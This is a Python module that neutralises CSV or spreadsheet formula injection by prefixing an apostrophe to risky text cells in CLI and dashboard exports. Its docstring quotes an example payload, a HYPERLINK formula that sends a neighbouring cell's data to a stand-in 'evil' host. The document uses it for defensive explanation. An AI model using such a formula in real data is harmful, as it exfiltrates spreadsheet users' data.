"""CSV we write for people to open in a spreadsheet: formulas neutralised.

A cell whose text starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return (or their
full-width forms, which spreadsheets also read as formula signs) is run as a formula by Excel,
LibreOffice and Google Sheets: a customer named ``=HYPERLINK("https://evil/?"&A2, "Click")``
would exfiltrate the row next to it, or worse with DDE. Every such text cell gets a leading
``'`` (OWASP's "CSV injection" advice): the spreadsheet shows the text, never runs it. Numbers
given as numbers (``-3``, ``1.5``) are written as they are. Every CSV export of the CLI and the
dashboard goes through :func:`write_csv` / :func:`csv_text`.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from typing import TextIO

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
"""What makes a spreadsheet read a cell as a formula (``＝ ＋ － ＠`` are the full-width forms)."""


def neutralise(value: object) -> object:
    """``value`` safe to put in a spreadsheet cell: text that would run as a formula gets a
    leading ``'``; numbers, booleans and None are returned as they are."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def write_csv(handle: TextIO, header: Sequence[str], rows: Iterable[Sequence[object]]) -> int:
    """Write ``header`` and ``rows`` (streamed) as CSV with every cell neutralised; the number
    of rows written."""
    writer = csv.writer(handle)
    writer.writerow([neutralise(name) for name in header])
    count = 0
    for row in rows:
        writer.writerow([neutralise(value) for value in row])
        count += 1
    return count


def csv_text(header: Sequence[str], rows: Iterable[Sequence[object]]) -> str:
    """:func:`write_csv` into a string (a dashboard download)."""
    out = io.StringIO()
    write_csv(out, header, rows)
    return out.getvalue()
